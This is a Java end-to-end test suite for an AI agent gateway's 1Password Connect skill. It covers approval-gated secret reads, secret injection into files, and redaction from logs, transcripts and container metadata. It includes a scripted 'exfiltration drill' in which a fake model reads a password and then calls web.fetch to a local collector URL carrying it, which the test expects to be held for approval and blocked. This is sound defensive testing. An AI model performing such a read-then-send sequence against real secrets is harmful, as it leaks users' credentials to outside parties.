package ai.clawbot.host;

import static org.assertj.core.api.Assertions.assertThat;

import ai.clawbot.host.gateway.Gateway;
import ai.clawbot.host.config.StateDir;
import ai.clawbot.host.sandbox.DockerClients;
import ai.clawbot.host.sandbox.SandboxCall;
import ai.clawbot.host.sandbox.SandboxObserver;
import ai.clawbot.host.secrets.FileVault;
import ai.clawbot.host.testkit.DockerRequired;
import ai.clawbot.host.testkit.ProtocolClient;
import ai.clawbot.host.testkit.ReactorJars;
import ai.clawbot.host.testkit.TestGateway;
import ai.clawbot.signing.Keys;
import ai.clawbot.signing.PluginSigner;
import ai.clawbot.signing.TrustStore;
import ai.clawbot.testkit.connect.LocalConnectServer;
import ai.clawbot.testkit.connect.LocalConnectServer.Field;
import ai.clawbot.testkit.model.LocalModelServer;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.github.dockerjava.api.DockerClient;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.KeyPair;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.logging.Handler;
import java.util.logging.Level;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import java.util.logging.SimpleFormatter;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * 1Password end to end, against a local server speaking the 1Password Connect REST API and a local
 * OpenAI-compatible model server: one gateway with the signed onepassword skill (Connect URL granted as
 * {@code 127.0.0.1:PORT}, token in the vault) and the bundled web skill (a local "collector" site granted).
 * <ul>
 * <li>each tool through {@code tools.invoke} in the sandbox (the {@code 1password} alias included); {@code read}
 *     waits for an operator unless the agent pre-approved that exact reference; {@code inject} writes 0600;</li>
 * <li>the model provider's {@code apiKey} is {@code op://Private/OpenAI/credential}: the model server receives the
 *     resolved key, and no file of the state, no log record, {@code config.get} or {@code docker inspect} holds it;</li>
 * <li>the exfiltration drill: a scripted model reads a secret (approved), then tries {@code web.fetch} to the
 *     granted collector with it: that call waits for its own approval (denied here), the collector is never hit,
 *     the transcript keeps a marker, and {@code security.audit} flags the agent;</li>
 * <li>wrong token, item missing: clear errors, no token or value echoed.</li>
 * </ul>
 */
@ExtendWith(DockerRequired.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
@Timeout(value = 240, unit = TimeUnit.SECONDS)
class OnePasswordEndToEndWireFormatLocalServerTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final DockerClient DOCKER = DockerClients.create();
    private static final Duration WAIT = Duration.ofSeconds(90);
    private static final String SUFFIX = Long.toHexString(System.nanoTime());
    private static final String TOKEN = "connect-token-e2e-" + SUFFIX;
    private static final String API_KEY = "sk-op-resolved-" + SUFFIX;
    private static final String PASSWORD = "gh-password-" + SUFFIX;
    private static final String API_REF = "op://Private/OpenAI/credential";
    private static final String GEMINI_KEY = "AIza-op-resolved-" + SUFFIX;

    private final List<String> inspected = new CopyOnWriteArrayList<>();
    private final List<String> logged = new CopyOnWriteArrayList<>();
    private final List<String> modelAuth = new CopyOnWriteArrayList<>();
    private final List<String> modelBodies = new CopyOnWriteArrayList<>();
    private final AtomicInteger collected = new AtomicInteger();
    private Handler capture;
    private Path state;
    private LocalConnectServer connect;
    private LocalModelServer model;
    private LocalModelServer collector;
    private LocalModelServer gemini;
    private int collectorPort;
    private Gateway gateway;
    private ProtocolClient client;

    @BeforeAll
    void start() throws Exception {
        capture = new Handler() {
            @Override
            public void publish(LogRecord record) {
                logged.add(new SimpleFormatter().format(record));
            }

            @Override
            public void flush() {
            }

            @Override
            public void close() {
            }
        };
        capture.setLevel(Level.ALL);
        Logger.getLogger("").addHandler(capture);

        connect = LocalConnectServer.start(TOKEN);
        String priv = connect.addVault("Private");
        connect.addItem(priv, "OpenAI", "API_CREDENTIAL", Map.of(), List.of(Field.of("credential", "CONCEALED", API_KEY)));
        connect.addItem(priv, "Gemini", "API_CREDENTIAL", Map.of("s1", "Google Cloud"),
                List.of(Field.of("api key", "CONCEALED", GEMINI_KEY).in("s1")));
        gemini = LocalModelServer.start(LocalModelServer.status(200, "{\"models\":[{\"name\":\"models/gemini-test\","
                + "\"inputTokenLimit\":1000,\"outputTokenLimit\":100,\"supportedGenerationMethods\":[\"generateContent\"]}]}"));
        connect.addItem(priv, "GitHub", "LOGIN", Map.of(), List.of(Field.of("username", "STRING", "ada"),
                Field.of("password", "CONCEALED", PASSWORD)));
        collector = LocalModelServer.start((request, exchange) -> {
            collected.incrementAndGet();
            LocalModelServer.status(200, "{}").respond(request, exchange);
        });
        collectorPort = Integer.parseInt(collector.baseUrl().replaceFirst(".*:", "").replace("/", ""));
        model = LocalModelServer.start(this::scriptedModel);

        state = Files.createTempDirectory("claw-1password-e2e");
        install(state, "onepassword");
        install(state, "gemini");
        // The plugins folder exists now, so the bundled web skill is not installed by itself: copy it (signed by the build).
        TestGateway.copyBundled("plugins/web.jar", state.resolve("plugins").resolve("web.jar"));
        TestGateway.copyBundled("plugins/web.jar.sig", state.resolve("plugins").resolve("web.jar.sig"));
        FileVault.open(new StateDir(state), Map.of()).set("OP_CONNECT_TOKEN", TOKEN.getBytes(StandardCharsets.UTF_8));
        // A skill's declared secret stored as a reference: the vault holds where it is, the skill gets the value.
        FileVault.open(new StateDir(state), Map.of()).set("GEMINI_API_KEY",
                "op://Private/Gemini/Google Cloud/api key".getBytes(StandardCharsets.UTF_8));
        Files.writeString(state.resolve("openclaw.json"), """
                {"models": {"providers": {
                   "local": {"api": "openai-compatible", "baseUrl": "%1$s", "apiKey": "%2$s", "models": ["test-model"]},
                   "broken": {"api": "openai-compatible", "baseUrl": "%1$s", "apiKey": "op://Private/Missing/credential", "models": ["other-model"]}},
                  "routing": {"planner": "local/test-model"}},
                 "plugins": {"entries": {
                   "onepassword": {"config": {"connect_url": "%3$s"}},
                   "gemini": {"config": {"base_url": "%5$s/v1beta"}},
                   "web": {"config": {"sites": ["127.0.0.1:%4$d"]}}}},
                 "agents": {"list": [
                   {"id": "default", "default": true, "approvals": {"references": ["op://Private/GitHub/username"]}},
                   {"id": "broken", "model": "broken/other-model"}]}}
                """.formatted(model.v1Url(), API_REF, connect.url(), collectorPort, gemini.baseUrl().replaceAll("/$", "")));
        Files.createDirectories(new StateDir(state).workspace());
        gateway = TestGateway.start(state, new SandboxObserver() {
            @Override
            public void started(String containerId, SandboxCall call) {
                try {
                    inspected.add(JSON.writeValueAsString(DOCKER.inspectContainerCmd(containerId).exec()));
                } catch (Exception e) {
                    inspected.add("inspect failed: " + e);
                }
            }
        });
        client = ProtocolClient.connect(gateway.webSocketUri(), TestGateway.TOKEN);
    }

    @AfterAll
    void stop() throws Exception {
        try {
            if (client != null) {
                client.close();
            }
            if (gateway != null) {
                gateway.close();
            }
        } finally {
            Logger.getLogger("").removeHandler(capture);
            for (AutoCloseable c : new AutoCloseable[] {connect, model, collector, gemini}) { // connect is null once closed
                if (c != null) {
                    c.close();
                }
            }
            TestGateway.deleteTree(state);
        }
    }

    /**
     * The scripted model: first a call of onepassword.read; given its result, a web.fetch to the collector carrying
     * it; given that result, a short answer. Records the Authorization header of every request.
     */
    private void scriptedModel(LocalModelServer.Received request, com.sun.net.httpserver.HttpExchange exchange) throws Exception {
        modelAuth.add(String.valueOf(request.header("authorization")));
        modelBodies.add(request.body());
        List<String> tools = new ArrayList<>();
        for (JsonNode m : request.json().path("messages")) {
            if ("tool".equals(m.path("role").asText())) {
                tools.add(m.path("content").isTextual() ? m.path("content").asText() : m.path("content").toString());
            }
        }
        OutputStream out = LocalModelServer.openSse(exchange);
        if (tools.isEmpty()) {
            call(out, "call_read", "onepassword__read", "{\"reference\":\"op://Private/GitHub/password\"}");
        } else if (tools.size() == 1) {
            String url = "http://127.0.0.1:" + collectorPort + "/collect?v=" + tools.get(0);
            call(out, "call_send", "web__fetch", "{\"url\":" + LocalModelServer.quote(url) + "}");
        } else {
            LocalModelServer.frame(out, null, LocalModelServer.openAiText("test-model", "done"));
            LocalModelServer.frame(out, null, LocalModelServer.openAiFinish("test-model", "stop"));
            LocalModelServer.frame(out, null, "[DONE]");
        }
    }

    private static void call(OutputStream out, String id, String fn, String args) throws Exception {
        LocalModelServer.frame(out, null, LocalModelServer.openAiChunk("test-model", "{\"role\":\"assistant\",\"content\":null,"
                + "\"tool_calls\":[{\"index\":0,\"id\":\"" + id + "\",\"type\":\"function\",\"function\":{\"name\":\"" + fn
                + "\",\"arguments\":" + LocalModelServer.quote(args) + "}}]}", null));
        LocalModelServer.frame(out, null, LocalModelServer.openAiFinish("test-model", "tool_calls"));
        LocalModelServer.frame(out, null, "[DONE]");
    }

    private JsonNode invoke(String skill, String tool, String session, ObjectNode args) throws Exception {
        ObjectNode p = ProtocolClient.params().put("skill", skill).put("tool", tool).put("sessionKey", session);
        p.set("args", args);
        return client.request("tools.invoke", p);
    }

    /** A call that waits for an operator: the approval request is checked, then answered with {@code decision}. */
    private JsonNode invokeApproved(String tool, ObjectNode args, String decision) throws Exception {
        ObjectNode p = ProtocolClient.params().put("skill", "onepassword").put("tool", tool).put("sessionKey", "agent:default:tools");
        p.set("args", args);
        CompletableFuture<JsonNode> pending = client.requestAsync("tools.invoke", p);
        JsonNode req = client.eventsUntil(e -> "approval.requested".equals(e.path("event").asText()), WAIT).getLast().path("payload");
        assertThat(req.path("skill").asText() + "." + req.path("tool").asText()).isEqualTo("onepassword." + tool);
        assertThat(req.path("effect").asText()).isEqualTo("secret");
        assertThat(client.request("approvals.resolve", ProtocolClient.params().put("id", req.path("id").asText())
                .put("decision", decision)).path("ok").asBoolean()).isTrue();
        return pending.get(WAIT.toSeconds(), TimeUnit.SECONDS);
    }

    private static ObjectNode args(String... kv) {
        ObjectNode o = JSON.createObjectNode();
        for (int i = 0; i < kv.length; i += 2) {
            o.put(kv[i], kv[i + 1]);
        }
        return o;
    }

    @Test
    @Order(1)
    void eachToolThroughTheGatewayInTheSandbox() throws Exception {
        JsonNode skills = client.request("skills.list");
        JsonNode op = null;
        for (JsonNode s : skills.at("/payload/skills")) {
            if ("onepassword".equals(s.path("id").asText())) {
                op = s;
            }
        }
        assertThat(op).as(skills.toString()).isNotNull();
        assertThat(op.path("aliases").toString()).contains("1password");

        JsonNode vaults = invoke("1password", "list_vaults", "agent:default:tools", args());
        assertThat(vaults.at("/payload/isError").asBoolean()).as(vaults.toString()).isFalse();
        assertThat(vaults.at("/payload/text").asText()).startsWith("Private (");

        JsonNode items = invoke("onepassword", "list_items", "agent:default:tools", args("vault", "Private"));
        assertThat(items.at("/payload/text").asText()).as(items.toString()).contains("GitHub [LOGIN] fields: username, password")
                .contains("OpenAI [API_CREDENTIAL] fields: credential");
        assertThat(items.toString()).doesNotContain(PASSWORD).doesNotContain(API_KEY);

        JsonNode missingVault = invoke("onepassword", "list_items", "agent:default:tools", args("vault", "Nope"));
        assertThat(missingVault.toString()).contains("NOT_FOUND").contains("vault 'Nope'");

        // read: the operator is asked every time; a denial runs nothing.
        JsonNode denied = invokeApproved("read", args("reference", "op://Private/GitHub/password"), "deny");
        assertThat(denied.toString()).contains("APPROVAL_DENIED").doesNotContain(PASSWORD);
        JsonNode read = invokeApproved("read", args("reference", "op://Private/GitHub/password"), "approve");
        assertThat(read.at("/payload/text").asText()).as(read.toString()).isEqualTo(PASSWORD);
        // ... unless the operator pre-approved that exact reference.
        client.drainEvents();
        JsonNode pre = invoke("onepassword", "read", "agent:default:tools", args("reference", "op://Private/GitHub/username"));
        assertThat(pre.at("/payload/text").asText()).as(pre.toString()).isEqualTo("ada");
        assertThat(client.drainEvents()).noneMatch(e -> "approval.requested".equals(e.path("event").asText()));

        JsonNode missingItem = invokeApproved("read", args("reference", "op://Private/Missing/password"), "approve");
        assertThat(missingItem.toString()).contains("NOT_FOUND").contains("no item 'Missing'");

        // inject: values into a new 0600 workspace file, counts to the caller.
        Path ws = new StateDir(state).workspace();
        Files.writeString(ws.resolve("app.tpl"), "user={{ op://Private/GitHub/username }}\npass={{ op://Private/GitHub/password }}\n");
        if ((Integer) Files.getAttribute(Path.of("/proc/self"), "unix:uid") == 0) {
            Files.setAttribute(ws, "unix:uid", 65534);
        }
        JsonNode inject = invokeApproved("inject", args("template", "app.tpl", "output", "app.env"), "approve");
        assertThat(inject.at("/payload/text").asText()).as(inject.toString()).contains("filled 2 placeholders");
        assertThat(inject.toString()).doesNotContain(PASSWORD).doesNotContain("ada\"");
        assertThat(Files.readString(ws.resolve("app.env"))).isEqualTo("user=ada\npass=" + PASSWORD + "\n");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(ws.resolve("app.env")))).isEqualTo("rw-------");
        Files.delete(ws.resolve("app.env"));

        // Wrong token: a clear error that does not echo it (rotating the secret restarts the container).
        FileVault.open(new StateDir(state), Map.of()).set("OP_CONNECT_TOKEN", ("wrong-" + TOKEN).getBytes(StandardCharsets.UTF_8));
        try {
            JsonNode wrong = invoke("onepassword", "list_vaults", "agent:default:tools", args());
            assertThat(wrong.toString()).contains("UNAUTHORIZED").contains("refused the token").doesNotContain(TOKEN);
        } finally {
            FileVault.open(new StateDir(state), Map.of()).set("OP_CONNECT_TOKEN", TOKEN.getBytes(StandardCharsets.UTF_8));
        }
        assertThat(connect.requests()).allSatisfy(r -> assertThat(r.pathAndQuery()).doesNotContain(TOKEN));
    }

    @Test
    @Order(2)
    void exfiltrationDrillTheSendingCallNeedsItsOwnApprovalAndTheModelKeyComesFromConnect() throws Exception {
        client.drainEvents();
        String session = "agent:default:drill";
        JsonNode ack = client.request("chat.send", ProtocolClient.params().put("sessionKey", session)
                .put("message", "What is my GitHub password?").put("idempotencyKey", UUID.randomUUID().toString()));
        assertThat(ack.path("ok").asBoolean()).as(ack.toString()).isTrue();
        String runId = ack.at("/payload/runId").asText();

        JsonNode first = client.eventsUntil(e -> "approval.requested".equals(e.path("event").asText()), WAIT).getLast().path("payload");
        assertThat(first.path("skill").asText() + "." + first.path("tool").asText()).isEqualTo("onepassword.read");
        client.request("approvals.resolve", ProtocolClient.params().put("id", first.path("id").asText()).put("decision", "approve"));

        // web.fetch is a read-effect tool the agent may call freely, but not after a secret was shown in this session.
        JsonNode second = client.eventsUntil(e -> "approval.requested".equals(e.path("event").asText()), WAIT).getLast().path("payload");
        assertThat(second.path("skill").asText() + "." + second.path("tool").asText()).isEqualTo("web.fetch");
        assertThat(second.path("permissions").asText()).contains("shown a secret");
        assertThat(second.path("args").path("url").asText()).as("the operator sees what would leave").contains(PASSWORD);
        client.request("approvals.resolve", ProtocolClient.params().put("id", second.path("id").asText()).put("decision", "deny"));

        List<JsonNode> events = client.eventsUntil(e -> "chat".equals(e.path("event").asText())
                && runId.equals(e.at("/payload/runId").asText())
                && List.of("final", "error", "aborted").contains(e.at("/payload/state").asText()), WAIT);
        assertThat(events.getLast().at("/payload/state").asText()).as(events.getLast().toString()).isEqualTo("final");
        assertThat(collected).as("nothing reached the collector").hasValue(0);

        // The model server got the key resolved from Connect, on every request; the model saw the approved value.
        assertThat(modelAuth).hasSize(3).allSatisfy(a -> assertThat(a).isEqualTo("Bearer " + API_KEY));
        assertThat(modelBodies.get(1)).contains(PASSWORD);

        // The transcript keeps markers, not the value (nor the model's attempt to send it).
        Path sessions = state.resolve("agents").resolve("default").resolve("sessions");
        String transcripts;
        try (Stream<Path> files = Files.list(sessions)) {
            StringBuilder b = new StringBuilder();
            for (Path f : files.filter(f -> f.toString().endsWith(".jsonl")).toList()) {
                b.append(Files.readString(f));
            }
            transcripts = b.toString();
        }
        assertThat(transcripts).contains("[redacted: onepassword.read revealed a secret").contains("[redacted secret]")
                .doesNotContain(PASSWORD).doesNotContain(API_KEY);
        JsonNode history = client.request("chat.history", ProtocolClient.params().put("sessionKey", session));
        assertThat(history.toString()).doesNotContain(PASSWORD).doesNotContain(API_KEY);

        // The audit flags the agent holding a secret reader and a sending tool.
        JsonNode audit = client.request("security.audit", ProtocolClient.params());
        assertThat(audit.toString()).as(audit.toString()).contains("agents.secret_and_egress")
                .contains("agent 'default' can read secrets and send data out").contains("onepassword.read").contains("web.fetch");
    }

    @Test
    @Order(3)
    void aMissingReferenceFailsTheRunNamingItAndNothingLeaks() throws Exception {
        String session = "agent:broken:x";
        JsonNode ack = client.request("chat.send", ProtocolClient.params().put("sessionKey", session)
                .put("message", "hello").put("idempotencyKey", UUID.randomUUID().toString()));
        String runId = ack.at("/payload/runId").asText();
        List<JsonNode> events = client.eventsUntil(e -> "chat".equals(e.path("event").asText())
                && runId.equals(e.at("/payload/runId").asText())
                && List.of("final", "error", "aborted").contains(e.at("/payload/state").asText()), WAIT);
        String end = events.getLast().toString();
        assertThat(events.getLast().at("/payload/state").asText()).as(end).isEqualTo("error");
        assertThat(end).contains("op://Private/Missing/credential").contains("no item 'Missing'").doesNotContain(TOKEN);

        // Greps: the resolved key and the token appear in no state file, log record, config.get or docker inspect.
        JsonNode config = client.request("config.get", ProtocolClient.params());
        assertThat(config.toString()).doesNotContain(API_KEY).doesNotContain(TOKEN);
        assertThat(Files.readString(state.resolve("openclaw.json"))).contains(API_REF).doesNotContain(API_KEY);
        assertThat(logged).isNotEmpty().allSatisfy(l -> assertThat(l).doesNotContain(API_KEY).doesNotContain(TOKEN)
                .doesNotContain(PASSWORD));
        assertThat(Files.readString(state.resolve("logs").resolve("audit.jsonl"))).contains("web").contains("fetch");
        assertThat(inspected).isNotEmpty().allSatisfy(i -> assertThat(i).doesNotContain(API_KEY).doesNotContain(TOKEN)
                .doesNotContain(PASSWORD).doesNotContain(GEMINI_KEY));
        try (Stream<Path> files = Files.walk(state)) {
            for (Path f : files.filter(Files::isRegularFile).toList()) {
                String text = new String(Files.readAllBytes(f), StandardCharsets.ISO_8859_1);
                assertThat(text).as("%s", f).doesNotContain(API_KEY).doesNotContain(TOKEN).doesNotContain(PASSWORD)
                        .doesNotContain(GEMINI_KEY);
            }
        }
    }

    @Test
    @Order(4)
    void connectDownIsAClearErrorForTheSkillAndTheGatewayAndNothingWasCachedFromFailures() throws Exception {
        connect.close();
        connect = null;
        JsonNode tool = invoke("onepassword", "list_vaults", "agent:default:down", args());
        assertThat(tool.toString()).as(tool.toString()).contains("UNREACHABLE").doesNotContain(TOKEN);

        // The broken reference failed before; had that failure been cached, this would not say "cannot reach".
        JsonNode ack = client.request("chat.send", ProtocolClient.params().put("sessionKey", "agent:broken:down")
                .put("message", "hello").put("idempotencyKey", UUID.randomUUID().toString()));
        String runId = ack.at("/payload/runId").asText();
        List<JsonNode> events = client.eventsUntil(e -> "chat".equals(e.path("event").asText())
                && runId.equals(e.at("/payload/runId").asText())
                && List.of("final", "error", "aborted").contains(e.at("/payload/state").asText()), WAIT);
        assertThat(events.getLast().toString()).contains("error").contains("op://Private/Missing/credential")
                .contains("cannot reach the 1Password Connect server").doesNotContain(TOKEN);
    }

    /** A reactor plugin jar into the state's plugins, signed by a fresh key that the state trusts. */
    private static void install(Path state, String name) throws Exception {
        Path jar = Files.createDirectories(state.resolve("plugins")).resolve(name + ".jar");
        Files.copy(ReactorJars.plugin(name), jar);
        KeyPair key = Keys.generate();
        TrustStore.open(state.resolve("trust")).add(key.getPublic(), "e2e-" + name);
        Files.write(jar.resolveSibling(name + ".jar.sig"), PluginSigner.sign(Files.readAllBytes(jar),
                key.getPrivate(), key.getPublic(), Instant.now()).toBytes());
    }

    @Test
    @Order(0)
    void aSkillsDeclaredSecretStoredAsAReferenceReachesItResolved() throws Exception {
        JsonNode res = invoke("gemini", "models", "agent:default:gemini", args());
        assertThat(res.at("/payload/text").asText()).as(res.toString()).isEqualTo("gemini-test");
        assertThat(gemini.last().header("x-goog-api-key")).isEqualTo(GEMINI_KEY);
        assertThat(res.toString()).doesNotContain(GEMINI_KEY);
    }
}
